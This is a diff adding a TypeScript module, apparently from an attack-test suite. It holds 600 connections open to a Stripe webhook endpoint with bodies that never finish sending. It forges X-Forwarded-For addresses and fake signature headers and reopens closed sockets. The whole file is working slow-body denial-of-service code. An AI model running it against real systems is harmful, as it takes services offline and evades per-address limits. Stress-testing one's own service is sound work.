@@ -1,0 +1,53 @@
+import { connect } from 'node:net';
+import type { Attack } from './attack.ts';
+
+const connections = 600;
+const bodyBytes = 1024 * 1024;
+/** The pause before a connection that the server closed is opened again. */
+const pauseMs = 5_000;
+
+/**
+ * Webhooks of 1 MiB that never send their last byte, each from another address, under a signature's header of the right
+ * form and time.
+ */
+export const halfSentBodies: Attack = {
+  name: `${connections} half-sent webhooks of 1 MiB from as many addresses`,
+  begin({ product }) {
+    const { hostname, port, host } = new URL(product.url);
+    const half = Buffer.alloc(bodyBytes - 1, 'x');
+    let closed = 0;
+    let stopped = false;
+    const ends = new Map<number, () => void>();
+    const open = (n: number) => {
+      const socket = connect(Number(port), hostname);
+      const time = Math.floor(Date.now() / 1000);
+      const head = [
+        'POST /api/webhooks/stripe HTTP/1.1',
+        `host: ${host}`,
+        `x-forwarded-for: 198.51.${100 + (n >> 8)}.${n % 256}`,
+        `stripe-signature: t=${time},v1=${'0'.repeat(64)}`,
+        `content-length: ${bodyBytes}`,
+      ];
+      socket.write(`${head.join('\r\n')}\r\n\r\n`);
+      socket.write(half);
+      socket.resume();
+      socket.on('error', () => {});
+      let again: NodeJS.Timeout | undefined;
+      socket.on('close', () => {
+        closed += 1;
+        if (!stopped) again = setTimeout(open, pauseMs, n);
+      });
+      ends.set(n, () => {
+        clearTimeout(again);
+        socket.destroy();
+      });
+    };
+    for (let n = 0; n < connections; n++) open(n);
+    return async () => {
+      stopped = true;
+      const byServer = closed;
+      for (const end of ends.values()) end();
+      return `${byServer} closed by the server`;
+    };
+  },
+};
